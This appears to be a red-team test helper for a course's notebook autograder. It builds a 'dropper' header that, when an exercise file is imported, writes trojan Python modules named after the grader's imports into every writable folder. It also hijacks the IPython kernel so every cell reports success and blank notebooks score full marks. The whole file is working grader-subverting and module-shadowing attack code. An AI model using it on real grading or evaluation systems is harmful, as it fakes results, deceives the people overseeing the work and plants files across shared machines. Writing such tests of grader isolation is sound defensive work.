"""The dropper: a cheat on the whole notebook, for tests/test_isolation.py and the notebooks'
autograde tests.

Its exercise files look blank (every function still raises ``NotImplementedError``); each
only gains a header that, when a rank imports the file, writes Python modules named after
every module the judge's processes import or try to import (the names of a traced grading
run: ``tests/fixtures/traced_imports.txt``, written by ``tests/import_trace``) into every place
the rank can write. A planted module that a grading kernel imports takes it over: it
silences every error from then on and marks each cell a success, so nbgrader sees only passes
(measured on main de50763: a blank notebook scored full marks on all ten notebooks); then it
becomes the real module, if there is one, so that nothing else changes.

Where the judge shares no writable place with a rank and imports nothing from the
submission's folder (``PYTHONSAFEPATH``), the dropper scores 0.
"""
import json
import re
import textwrap
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
TRACED = ROOT / "tests" / "fixtures" / "traced_imports.txt"
MARK = "# --- dropper"

PAYLOAD = '''"""Planted by the dropper (tests/dropper.py)."""
import importlib as _importlib
import os as _os
import sys as _sys

try:
    from IPython import get_ipython as _get_ipython
    _ip = _get_ipython()
except Exception:
    _ip = None
if _ip is not None and not getattr(_ip, "_dropped", False):
    _ip._dropped = True
    _none = lambda *args, **kwargs: None
    _ip._showtraceback = _none
    _ip.showtraceback = _none
    _ip.set_custom_exc((BaseException,), _none)

    def _succeed(result):
        result.error_before_exec = None
        result.error_in_exec = None
    _ip.events.register("post_run_cell", _succeed)
_me = __name__
_here = _os.path.dirname(_os.path.abspath(__file__))
_saved = list(_sys.path)
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
_planted = _sys.modules.pop(_me, None)
try:
    _sys.modules[_me] = _importlib.import_module(_me)
except Exception:
    _sys.modules[_me] = _planted
finally:
    _sys.path[:] = _saved
'''

HEAD = '''# --- dropper (a cheat: plants modules named after what the judge imports) ---
def _dtfs_drop():
    import os, sys
    names = {names!r}
    payload = {payload!r}
    inside = bool(os.environ.get("DTFS_SANDBOXED"))
    places = set()
    try:            # the launcher's folder: the tag of this launch starts with its pid
        owner = os.environ.get("DTFS_LAUNCH_TAG", "").split(":")[0]
        places.add(os.readlink(f"/proc/{{owner}}/cwd"))
    except (OSError, ValueError):
        pass
    for start in (os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
        here = start
        for _ in range(4 if inside else 1):     # (bare, only its own folders: never the
            places.add(here)                    # machine's /tmp, / or home above them)
            here = os.path.dirname(here)
    if not inside:
        places -= {{"/", "/tmp", "/dev/shm", "/root", os.path.expanduser("~"),
                    os.environ.get("TMPDIR") or "/tmp"}}
    if inside:      # a sandbox: every place it can write (never the real machine's, outside)
        places |= {{"/tmp", "/dev/shm", os.environ.get("TMPDIR") or "/tmp",
                    os.path.expanduser("~")}}
        try:
            for line in open("/proc/self/mountinfo"):
                fields = line.split()
                if "rw" in fields[5].split(",") and fields[4] not in ("/", "/proc", "/dev"):
                    places.add(fields[4].replace("\\\\040", " "))
        except OSError:
            pass
        for top in list(places):
            for root, dirs, _ in os.walk(top):
                if root.count(os.sep) - top.count(os.sep) >= 3:
                    dirs[:] = []
                places.add(root)
    for folder in places:
        if not os.path.isdir(folder) or not os.access(folder, os.W_OK):
            continue
        for name in names:
            try:
                with open(os.path.join(folder, name + ".py"), "w") as f:
                    f.write(payload)
            except OSError:
                break
_dtfs_drop()
# --- end of the dropper ---
'''


def names():
    """The top-level module names of the traced grading run (every process: the kernel, the
    zygotes, the ranks, the launchers), but this course's own package and ``__main__``."""
    found = set()
    text = TRACED.read_text() if TRACED.exists() else ""    # (none yet: its first refresh)
    for line in text.splitlines():
        if line and not line.startswith("#"):
            found.add(line.split()[-1].split(".")[0])
    return sorted(n for n in found if n.isidentifier() and n not in ("exercise_utils", "__main__"))


def head(planted=None):
    """The header the dropper adds to an exercise file."""
    return HEAD.format(names=list(planted or names()), payload=PAYLOAD)


def notebook(release_text, planted=None):
    """The release notebook (text) with the dropper's header in every ``%%writefile`` (and
    ``%%part``) cell."""
    nb = json.loads(release_text)
    for cell in nb["cells"]:
        src = "".join(cell["source"])
        if cell["cell_type"] == "code" and re.match(r"%%(writefile|part) \S+\.py( \d+/\d+)?\s*\n",
                                                     src):
            first, _, rest = src.partition("\n")
            code = [ln for ln in rest.splitlines() if ln.strip() and not ln.lstrip().startswith("#")]
            indent = code[0][:len(code[0]) - len(code[0].lstrip())] if code else ""
            # (a part that continues a class is indented: the header runs in the class body)
            cell["source"] = first + "\n" + textwrap.indent(head(planted), indent) + rest
    return json.dumps(nb, indent=1)


def traced_names(folder):
    """``{role: set of names}`` from a folder of the tracer's logs (tests/import_trace)."""
    found = {}
    for log in Path(folder).glob("*.log"):
        for line in log.read_text(errors="replace").splitlines():
            role, _, name = line.partition("\t")
            if name:
                found.setdefault(role, set()).add(name)
    return found
